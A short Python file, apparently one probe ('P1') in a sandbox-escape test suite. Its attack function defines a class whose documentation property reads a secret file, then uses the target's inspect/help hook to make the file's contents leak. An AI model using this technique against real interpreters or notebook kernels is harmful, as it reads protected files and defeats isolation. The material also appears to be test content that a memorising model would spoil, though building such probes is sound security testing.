"""P1: help asks an object for a documentation of its own."""


def attack(door):
    door.run(
        "class C:\n    @property\n    def __custom_documentations__(self):\n"
        f"        return {{'text/plain': open({door.secret!r}).read()}}\nc = C()"
    )
    door.inspect("c", 0)
    door.run("c.__custom_documentations__['text/plain']")
